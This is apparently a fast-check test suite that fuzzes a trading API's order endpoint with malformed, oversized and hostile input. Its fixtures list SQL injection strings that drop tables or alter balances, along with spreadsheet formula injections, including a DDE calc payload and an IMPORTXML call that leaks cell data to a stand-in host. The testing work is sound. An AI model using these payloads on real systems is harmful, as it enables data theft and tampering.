// Property-based bad input for POST /api/v1/orders (fast-check, fixed seeds so a failure reproduces): type
// confusion in every field, out-of-range and huge numbers, NaN/Infinity, unicode, control characters, long
// strings, extra fields, deep JSON, arbitrary JSON, SQL and CSV injection in every text field. Invariants:
// never a 5xx; every 4xx has the SPEC's shape {error, message, details} and names the bad field; a refused
// request writes nothing (the desk's order list stays empty, the account is unchanged, D1 holds no rows).
import { env } from "cloudflare:workers";
import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { call, eventually, json, newInstrument, newTrader, type Trader } from "../helpers/api";
import type { Order } from "../../worker/shared/orders";
import { errorOf } from "../helpers/errors";

const RUNS = 200;
const TIMEOUT = 60_000;

// ---------------------------------------------------------------- the SPEC, written out independently

const FIELDS = ["symbol", "side", "quantity", "order_type", "price", "stop_price", "time_in_force", "client_order_id"] as const;
type Field = (typeof FIELDS)[number];
const ENUMS = {
  side: ["BUY", "SELL"],
  order_type: ["MARKET", "LIMIT", "STOP", "STOP_LIMIT"],
  time_in_force: ["DAY", "GTC", "IOC", "FOK"],
} as const;
const SYMBOL = /^[A-Z0-9._]{1,12}$/;
const CLIENT_ORDER_ID = /^[\x21-\x7e]{1,64}$/;
const IDEMPOTENCY_KEY = /^[\x20-\x7e]{1,255}$/;

/** A valid order (a resting LIMIT BUY on AAPL); each property breaks exactly the part it is about. */
const BASE = { symbol: "AAPL", side: "BUY", quantity: 1, order_type: "LIMIT", price: 150, time_in_force: "GTC" } as const;
/** A STOP order (a BUY stop sits above the price, 150.00), so stop_price is a field the request may carry. */
const STOP_BASE = { symbol: "AAPL", side: "BUY", quantity: 1, order_type: "STOP", stop_price: 151, time_in_force: "GTC" } as const;

const SQL_INJECTION = [
  "' OR '1'='1", "'OR'1'='1", "1'or'1'='1'--", "'; DROP TABLE orders; --", "';DROP/**/TABLE/**/orders;--", "\" OR \"\"=\"",
  "1; DELETE FROM accounts", "' UNION SELECT trader_id, cash_cents FROM accounts --", "AAPL'--", "AAPL\";--", "%' OR 1=1 --",
  "') OR ('a'='a", "\\'; DROP TABLE execution_logs; --", "1)) OR 1=1--", "x' AND (SELECT COUNT(*) FROM sqlite_master)>0--",
  "'||(SELECT hex(randomblob(8)))||'", "AAPL' AND 1=0 UNION ALL SELECT NULL--", "';UPDATE/**/accounts/**/SET/**/cash_cents=1e12;--",
];
const CSV_INJECTION = [
  "=1+2", "=HYPERLINK(\"http://evil.example\",\"x\")", "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "=cmd|' /C calc'!A0",
  "=1+2;", "\"=1\"", ",=1", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "-", "@", "+",
];
const INJECTION = [...SQL_INJECTION, ...CSV_INJECTION];

// ---------------------------------------------------------------- helpers


/** A VALIDATION_ERROR (400) whose details.fields names `field`. */
async function expectFieldError(res: Response, field: string, context: string): Promise<void> {
  const body = await errorOf(res, context);
  const where = `${context} -> ${JSON.stringify(body).slice(0, 300)}`;
  expect(res.status, where).toBe(400);
  expect(body.error, where).toBe("VALIDATION_ERROR");
  const fields = body.details.fields as Record<string, unknown> | undefined;
  expect(typeof fields === "object" && fields !== null && Object.hasOwn(fields, field), `details.fields must name ${JSON.stringify(field)}: ${where}`).toBe(true);
}

function post(trader: Trader, body: string, headers: Record<string, string> = {}): Promise<Response> {
  return call("/api/v1/orders", { method: "POST", token: trader.token, body, headers });
}

/** Raw JSON text of an object, so keys such as __proto__ arrive as own keys exactly as a client sends them. */
function objectText(entries: [string, unknown][]): string {
  return `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v)}`).join(",")}}`;
}

function withField(base: Record<string, unknown>, field: string, value: unknown): string {
  const entries = Object.entries(base).filter(([k]) => k !== field);
  return objectText([...entries, [field, value]]);
}

interface Snapshot {
  account: unknown;
  d1: unknown;
}

async function d1State(traderId: string): Promise<unknown> {
  return env.DB.prepare(
    `SELECT a.cash_cents, a.reserved_cents, a.version,
       (SELECT COUNT(*) FROM orders WHERE trader_id = ?1) AS orders,
       (SELECT COUNT(*) FROM fills WHERE trader_id = ?1) AS fills,
       (SELECT COUNT(*) FROM execution_logs WHERE trader_id = ?1) AS logs,
       (SELECT COUNT(*) FROM positions WHERE trader_id = ?1) AS positions
     FROM accounts a WHERE a.trader_id = ?1`,
  ).bind(traderId).first();
}

async function snapshot(trader: Trader): Promise<Snapshot> {
  const res = await call("/api/v1/account", { token: trader.token });
  expect(res.status).toBe(200);
  return { account: await res.json(), d1: await d1State(trader.id) };
}

/** Nothing written: no order on the desk, the same account, and D1 exactly as before. */
async function expectUntouched(trader: Trader, before: Snapshot, context: string): Promise<void> {
  const list = await call("/api/v1/orders", { token: trader.token });
  expect(await list.json(), `order list after ${context}`).toEqual({ data: [], next_cursor: null });
  const account = await call("/api/v1/account", { token: trader.token });
  expect(await account.json(), `account after ${context}`).toEqual(before.account);
  expect(await d1State(trader.id), `D1 after ${context}`).toEqual(before.d1);
}

/** A fresh trader with $1,000 and 10 AAPL, and its snapshot: every refusal property runs against one. */
async function cleanTrader(): Promise<{ trader: Trader; before: Snapshot }> {
  const trader = await newTrader(1_000, [{ symbol: "AAPL", quantity: 10, avg_price: 140 }], "fuzz");
  return { trader, before: await snapshot(trader) };
}

const show = (v: unknown) => {
  const text = typeof v === "string" ? JSON.stringify(v) : JSON.stringify(v) ?? String(v);
  return text.length > 120 ? `${text.slice(0, 120)}...(${text.length})` : text;
};

// ---------------------------------------------------------------- arbitraries

const anyArray = fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 });
const anyObject = fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 });

/** Every JSON value that is not a string. */
const notString: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.boolean(),
  fc.constant(null),
  anyArray,
  anyObject,
);

/** Numbers written as strings, the way a careless client or a spreadsheet sends them. */
const NUMERIC_STRINGS = [
  "NaN", "Infinity", "-Infinity", "+Infinity", "1e309", "-1e309", "inf", "nan", "0x1F", "1_000", "1,5", "150.00", "1", "100",
  " 1", "1 ", "", " ", "٣", "１００", "1e2", "0", "-0", "null", "true", "undefined", "150.05",
];

/** Every JSON value that is not a number. */
const notNumber: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...NUMERIC_STRINGS),
  fc.string({ maxLength: 20 }),
  fc.boolean(),
  fc.constant(null),
  anyArray,
  anyObject,
);

/** Strings that look close to an enum value but are not one. */
function nearMisses(values: readonly string[]): fc.Arbitrary<string> {
  const variants = values.flatMap((v) => [
    v.toLowerCase(), v[0] + v.slice(1).toLowerCase(), ` ${v}`, `${v} `, `${v}\u0000`, `${v}\u200b`, `${v}\n`,
    v.replace(/[A-Z]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)), // fullwidth
  ]);
  return fc.oneof(fc.constantFrom(...variants), fc.string({ unit: "binary", maxLength: 16 })).filter((s) => !values.includes(s));
}

/** A wrong value for `field`, by its type in the SPEC. */
function wrongValue(field: Field): fc.Arbitrary<unknown> {
  switch (field) {
    case "symbol":
      return fc.oneof(notString, fc.string({ unit: "binary", maxLength: 20 }).filter((s) => !SYMBOL.test(s)), fc.constantFrom("aapl", "AAPL ", "ＡＡＰＬ", "", "AAPLAAPLAAPLX"));
    case "side":
    case "order_type":
    case "time_in_force":
      return fc.oneof(notString, nearMisses(ENUMS[field]));
    case "client_order_id":
      return fc.oneof(notString, fc.string({ unit: "binary", maxLength: 80 }).filter((s) => !CLIENT_ORDER_ID.test(s)));
    case "quantity":
    case "price":
    case "stop_price":
      return notNumber;
  }
}

/** Strings of every kind of character: unicode, lone surrogates, controls, bidi and zero-width marks, long runs. */
const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc.string({ unit: "binary", maxLength: 40 }),
  fc.string({ unit: fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)), minLength: 1, maxLength: 20 }),
  fc.string({ unit: fc.constantFrom("\u202e", "\u200b", "\ufeff", "\u0000", "\ud800", "\udfff", "\u2028", "𝔸", "Å", "A\u030a"), minLength: 1, maxLength: 20 }),
  fc.string({ unit: "grapheme-ascii", minLength: 65, maxLength: 6000 }),
  fc.constantFrom("x".repeat(13), "A".repeat(5000), "AAPL".repeat(1000), "\u0000".repeat(100)),
);

// ---------------------------------------------------------------- tests

describe("POST /api/v1/orders under generated bad input", () => {
  let instrument: string;
  beforeAll(async () => {
    instrument = await newInstrument(1);
  });

  it("accepts the base orders the properties break (control: each refusal below is caused by the broken part)", async () => {
    const trader = await newTrader(10_000);
    for (const body of [BASE, STOP_BASE]) {
      const res = await post(trader, JSON.stringify(body));
      expect(res.status, await res.clone().text()).toBe(201);
    }
  });

  it("refuses a wrong-typed value in every field with VALIDATION_ERROR naming that field, and writes nothing", async () => {
    const { trader, before } = await cleanTrader();
    const arb = fc.constantFrom(...FIELDS).chain((field) => fc.tuple(fc.constant(field), wrongValue(field)));
    await fc.assert(
      fc.asyncProperty(arb, async ([field, value]) => {
        const base = field === "stop_price" ? STOP_BASE : BASE;
        const context = `${field} = ${show(value)}`;
        await expectFieldError(await post(trader, withField(base, field, value)), field, context);
        await expectUntouched(trader, before, context);
      }),
      { numRuns: 300, seed: 0x0f1e1d01 },
    );
  }, TIMEOUT);

  it("refuses out-of-range, fractional and huge numbers with VALIDATION_ERROR naming the field, and writes nothing", async () => {
    const { trader, before } = await cleanTrader();
    const subCent = fc.tuple(fc.integer({ min: 1, max: 99_999_999 }), fc.integer({ min: 1, max: 9 })).map(([cents, mills]) => (cents * 10 + mills) / 1000);
    // Positive amounts under a thousandth of a cent are the explicit test below.
    const extremes = fc.constantFrom(Number.MAX_VALUE, -Number.MAX_VALUE, -Number.MIN_VALUE, 2 ** 53, 2 ** 53 + 2, 1e16, 1e21, 1e300, -1);
    const badQuantity = fc.oneof(
      fc.integer({ min: Number.MIN_SAFE_INTEGER, max: 0 }),
      fc.double({ noNaN: true, noDefaultInfinity: true }).filter((n) => !Number.isInteger(n)),
      fc.double({ min: 2 ** 53, noNaN: true, noDefaultInfinity: true }),
      extremes,
    );
    const badPrice = fc.oneof(
      fc.double({ max: 0, noNaN: true, noDefaultInfinity: true }),
      fc.double({ min: 1_000_000.01, noNaN: true, noDefaultInfinity: true }),
      subCent,
      extremes,
    );
    const arb = fc.oneof(
      badQuantity.map((v) => ["quantity", v] as const),
      badPrice.map((v) => ["price", v] as const),
      badPrice.map((v) => ["stop_price", v] as const),
    );
    await fc.assert(
      fc.asyncProperty(arb, async ([field, value]) => {
        const base = field === "stop_price" ? STOP_BASE : BASE;
        const context = `${field} = ${value}`;
        await expectFieldError(await post(trader, withField(base, field, value)), field, context);
        await expectUntouched(trader, before, context);
      }),
      { numRuns: RUNS, seed: 0x0f1e1d02 },
    );
  }, TIMEOUT);

  it.each([Number.MIN_VALUE, 1e-9, 4e-9])("refuses a positive price of %s dollars (zero whole cents) with VALIDATION_ERROR naming price", async (price) => {
    const { trader, before } = await cleanTrader();
    for (const [field, base] of [["price", BASE], ["stop_price", STOP_BASE]] as const) {
      await expectFieldError(await post(trader, withField(base, field, price)), field, `${field} = ${price}`);
    }
    await expectUntouched(trader, before, `price ${price}`);
  });

  it("refuses NaN, Infinity and numbers out of JSON's range, quoted or raw, with a 400 and writes nothing", async () => {
    const { trader, before } = await cleanTrader();
    // Raw tokens: 1e309 parses to Infinity, 1e-400 to 0; NaN and Infinity are not JSON at all.
    const RAW = ["1e309", "-1e309", "1e-400", "-1e-400", "NaN", "Infinity", "-Infinity", "0x10", "01", "+1", ".5", "1.", "1e", "--1"];
    const arb = fc.tuple(
      fc.constantFrom<Field>("quantity", "price", "stop_price"),
      fc.oneof(fc.constantFrom(...NUMERIC_STRINGS).map((s) => ({ quoted: s })), fc.constantFrom(...RAW).map((s) => ({ raw: s }))),
    );
    await fc.assert(
      fc.asyncProperty(arb, async ([field, value]) => {
        const base = field === "stop_price" ? STOP_BASE : BASE;
        const entries = Object.entries(base).filter(([k]) => k !== field);
        const prefix = objectText(entries).slice(0, -1);
        const text = "quoted" in value ? `${prefix},${JSON.stringify(field)}:${JSON.stringify(value.quoted)}}` : `${prefix},${JSON.stringify(field)}:${value.raw}}`;
        const context = text;
        const res = await post(trader, text);
        let parses = true;
        try {
          JSON.parse(text);
        } catch {
          parses = false;
        }
        if (parses) await expectFieldError(res, field, context);
        else expect((await errorOf(res, context)).error, context).toBe("MALFORMED_JSON");
        await expectUntouched(trader, before, context);
      }),
      { numRuns: 150, seed: 0x0f1e1d03 },
    );
  }, TIMEOUT);

  it("refuses unicode, control characters and very long strings in every text field, and writes nothing", async () => {
    const { trader, before } = await cleanTrader();
    const valid: Record<string, (s: string) => boolean> = {
      symbol: (s) => SYMBOL.test(s),
      client_order_id: (s) => CLIENT_ORDER_ID.test(s),
      side: (s) => (ENUMS.side as readonly string[]).includes(s),
      order_type: (s) => (ENUMS.order_type as readonly string[]).includes(s),
      time_in_force: (s) => (ENUMS.time_in_force as readonly string[]).includes(s),
    };
    const arb = fc.tuple(fc.constantFrom("symbol", "client_order_id", "side", "order_type", "time_in_force"), hostileText).filter(([f, s]) => !valid[f]!(s));
    await fc.assert(
      fc.asyncProperty(arb, async ([field, value]) => {
        const context = `${field} = ${show(value)}`;
        await expectFieldError(await post(trader, withField(BASE, field, value)), field, context);
        await expectUntouched(trader, before, context);
      }),
      { numRuns: 250, seed: 0x0f1e1d04 },
    );
  }, TIMEOUT);

  it("refuses extra fields (including ones that name server-owned data) with VALIDATION_ERROR naming each, and writes nothing", async () => {
    const { trader, before } = await cleanTrader();
    // Names inherited from Object.prototype are left to the explicit test below.
    const inherited = new Set(Object.getOwnPropertyNames(Object.prototype));
    const key = fc
      .oneof(
        fc.constantFrom("id", "trader_id", "status", "filled_quantity", "avg_fill_price", "reserved_cents", "role", "admin", "sub", "Symbol", "SYMBOL", "symbol ", "quantity\u0000", "", " ", "price.cents", "fills", "cash"),
        fc.string({ unit: "binary", maxLength: 24 }),
      )
      .filter((k) => !(FIELDS as readonly string[]).includes(k) && !inherited.has(k));
    const arb = fc.tuple(fc.uniqueArray(key, { minLength: 1, maxLength: 3 }), fc.jsonValue({ maxDepth: 2 }));
    await fc.assert(
      fc.asyncProperty(arb, async ([keys, value]) => {
        const text = objectText([...Object.entries(BASE), ...keys.map((k) => [k, value] as [string, unknown])]);
        const context = `extra ${show(keys)}`;
        const res = await post(trader, text);
        const body = await errorOf(res, context);
        expect(body.error, context).toBe("VALIDATION_ERROR");
        const fields = (body.details.fields ?? {}) as Record<string, unknown>;
        for (const k of keys) expect(Object.hasOwn(fields, k), `details.fields must name ${show(k)}: ${JSON.stringify(body)}`).toBe(true);
        await expectUntouched(trader, before, context);
      }),
      { numRuns: RUNS, seed: 0x0f1e1d05 },
    );
  }, TIMEOUT);

  it.each(["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf"])(
    "refuses an extra field named %s with VALIDATION_ERROR naming it, and writes nothing",
    async (key) => {
      const { trader, before } = await cleanTrader();
      const res = await post(trader, objectText([...Object.entries(BASE), [key, { admin: true }]]));
      const body = await errorOf(res, key);
      expect(body.error).toBe("VALIDATION_ERROR");
      const fields = (body.details.fields ?? {}) as Record<string, unknown>;
      expect(Object.hasOwn(fields, key), `details.fields must name ${key}: ${JSON.stringify(body)}`).toBe(true);
      await expectUntouched(trader, before, key);
    },
  );

  it("refuses deeply nested JSON, as the body, in a field or in an extra field, with a 400 and writes nothing", async () => {
    const { trader, before } = await cleanTrader();
    const nested = (depth: number, arrays: boolean) => (arrays ? "[".repeat(depth) + "]".repeat(depth) : '{"a":'.repeat(depth) + "1" + "}".repeat(depth));
    const arb = fc.record({
      depth: fc.oneof(fc.integer({ min: 1, max: 50 }), fc.integer({ min: 51, max: 2500 })),
      arrays: fc.boolean(),
      where: fc.constantFrom("body", "symbol", "quantity", "price", "client_order_id", "extra"),
    });
    await fc.assert(
      fc.asyncProperty(arb, async ({ depth, arrays, where }) => {
        const deep = nested(depth, arrays);
        const prefix = objectText(Object.entries(BASE).filter(([k]) => k !== where)).slice(0, -1);
        const text = where === "body" ? deep : `${prefix},${JSON.stringify(where === "extra" ? "nested" : where)}:${deep}}`;
        const context = `${where} nested ${depth} ${arrays ? "arrays" : "objects"}`;
        const body = await errorOf(await post(trader, text), context);
        expect(body.error, context).toBe("VALIDATION_ERROR");
        await expectUntouched(trader, before, context);
      }),
      { numRuns: 150, seed: 0x0f1e1d06 },
    );
  }, TIMEOUT);

  it("answers any JSON value or any text as the body with a 4xx in the error shape, and writes nothing", async () => {
    const { trader, before } = await cleanTrader();
    const arb = fc.oneof(
      fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v)),
      fc.string({ unit: "binary", maxLength: 200 }).filter((s) => !s.startsWith("\ufeff")),
      fc.string({ unit: "grapheme-ascii", maxLength: 200 }),
    );
    await fc.assert(
      fc.asyncProperty(arb, async (text) => {
        const context = `body ${show(text)}`;
        const body = await errorOf(await post(trader, text), context);
        let parses = true;
        try {
          JSON.parse(text);
        } catch {
          parses = false;
        }
        expect(body.error, context).toBe(parses ? "VALIDATION_ERROR" : "MALFORMED_JSON");
        await expectUntouched(trader, before, context);
      }),
      { numRuns: 300, seed: 0x0f1e1d07 },
    );
  }, TIMEOUT);

  it("refuses SQL and CSV injection in symbol (VALIDATION_ERROR or UNKNOWN_SYMBOL) and in bad client_order_ids, and writes nothing", async () => {
    const { trader, before } = await cleanTrader();
    const injected = fc.oneof(
      fc.constantFrom(...INJECTION),
      fc.tuple(fc.constantFrom("AAPL", "", "1"), fc.constantFrom(...INJECTION), fc.string({ maxLength: 6 })).map(([a, b, c]) => a + b + c),
    );
    const arb = fc.tuple(fc.constantFrom("symbol", "client_order_id"), injected).filter(([f, s]) => f === "symbol" || !CLIENT_ORDER_ID.test(s));
    await fc.assert(
      fc.asyncProperty(arb, async ([field, value]) => {
        const context = `${field} = ${show(value)}`;
        const res = await post(trader, withField(BASE, field, value));
        if (field === "symbol" && SYMBOL.test(value)) {
          expect((await errorOf(res, context)).error, context).toBe("UNKNOWN_SYMBOL");
        } else {
          await expectFieldError(res, field, context);
        }
        await expectUntouched(trader, before, context);
      }),
      { numRuns: 150, seed: 0x0f1e1d08 },
    );
  }, TIMEOUT);

  it("stores SQL and CSV injection in a valid client_order_id verbatim, and replays it instead of duplicating", async () => {
    const trader = await newTrader(1_000, [], "inj");
    const seen = new Map<string, string>();
    const injected = fc
      .oneof(
        fc.constantFrom(...INJECTION),
        fc.tuple(fc.constantFrom(...INJECTION), fc.string({ unit: "grapheme-ascii", maxLength: 8 })).map(([a, b]) => a + b),
      )
      .map((s) => s.replace(/[\s]/g, "").slice(0, 64))
      .filter((s) => CLIENT_ORDER_ID.test(s));
    await fc.assert(
      fc.asyncProperty(injected, async (id) => {
        // A resting limit 5% under the price: an order that works without filling.
        const res = await post(trader, JSON.stringify({ symbol: instrument, quantity: 1, order_type: "LIMIT", price: 0.95, time_in_force: "GTC", client_order_id: id }));
        const text = await res.text();
        expect(res.status, `${show(id)} -> ${text}`).toBe(201);
        const order = JSON.parse(text) as Order;
        expect(order.client_order_id).toBe(id);
        const first = seen.get(id);
        if (first) {
          expect(order.id, `client_order_id ${show(id)} made a second order`).toBe(first);
          expect(res.headers.get("Idempotent-Replayed")).toBe("true");
        } else {
          seen.set(id, order.id);
        }
      }),
      { numRuns: 100, seed: 0x0f1e1d09 },
    );
    // The desk and D1 hold exactly one order per distinct id, each with the id stored byte for byte.
    const list = await json<{ data: Order[] }>(await call("/api/v1/orders?limit=500", { token: trader.token }));
    expect(list.data.map((o) => [o.client_order_id, o.id]).sort()).toEqual([...seen.entries()].sort());
    const rows = await eventually(
      async () => (await env.DB.prepare("SELECT id, client_order_id FROM orders WHERE trader_id = ?").bind(trader.id).all<{ id: string; client_order_id: string }>()).results,
      (r) => r.length === seen.size,
    );
    expect(rows.map((r) => [r.client_order_id, r.id]).sort()).toEqual([...seen.entries()].sort());
    // The tables an injection would target are intact.
    const seeded = await env.DB.prepare("SELECT COUNT(*) AS n FROM accounts WHERE trader_id IN ('alice', 'bob', 'carol')").first<{ n: number }>();
    expect(seeded?.n).toBe(3);
  }, TIMEOUT);

  it("treats SQL and CSV injection in the Idempotency-Key header as an opaque key: refused when not printable ASCII, else one order per key", async () => {
    const trader = await newTrader(1_000, [], "idem");
    const before = await snapshot(trader);
    const seen = new Map<string, string>();
    let refused = 0;
    // Header values cannot hold CR, LF or NUL, and Headers trims spaces and tabs at both ends.
    const headerSafe = (s: string) => s.replace(/[\r\n\0]/g, "").replace(/[^\x00-\xff]/g, "?");
    const key = fc
      .oneof(
        fc.constantFrom(...INJECTION),
        fc.tuple(fc.constantFrom(...INJECTION), fc.string({ unit: "binary", maxLength: 6 })).map(([a, b]) => a + b),
        fc.string({ unit: fc.integer({ min: 0x80, max: 0xff }).map((c) => String.fromCharCode(c)), minLength: 1, maxLength: 4 }).map((s) => `k${s}`),
        fc.constantFrom("k".repeat(256), "\u0001key", "key\u007f"),
      )
      .map(headerSafe)
      .filter((s) => s.trim().length > 0);
    await fc.assert(
      fc.asyncProperty(key, async (raw) => {
        const sent = raw.replace(/^[\t ]+|[\t ]+$/g, "");
        const res = await post(trader, JSON.stringify({ symbol: instrument, quantity: 1, order_type: "LIMIT", price: 0.95, time_in_force: "GTC" }), { "Idempotency-Key": raw });
        const context = `Idempotency-Key ${show(raw)}`;
        if (!IDEMPOTENCY_KEY.test(sent)) {
          await expectFieldError(res, "idempotency-key", context);
          refused++;
          return;
        }
        const text = await res.text();
        expect(res.status, `${context} -> ${text}`).toBe(201);
        const order = JSON.parse(text) as Order;
        const first = seen.get(sent);
        if (first) expect(order.id, `${context} made a second order`).toBe(first);
        else seen.set(sent, order.id);
      }),
      { numRuns: 150, seed: 0x0f1e1d0a },
    );
    expect(refused).toBeGreaterThan(0);
    expect(seen.size).toBeGreaterThan(0);
    const list = await json<{ data: Order[] }>(await call("/api/v1/orders?limit=500", { token: trader.token }));
    expect(list.data.map((o) => o.id).sort()).toEqual([...seen.values()].sort());
    // Each accepted order reserved exactly its $0.95, refusals nothing.
    const account = await json<{ cash: number; reserved: number }>(await call("/api/v1/account", { token: trader.token }));
    expect(account).toMatchObject({ cash: (before.account as { cash: number }).cash, reserved: Math.round(seen.size * 95) / 100 });
  }, TIMEOUT);
});
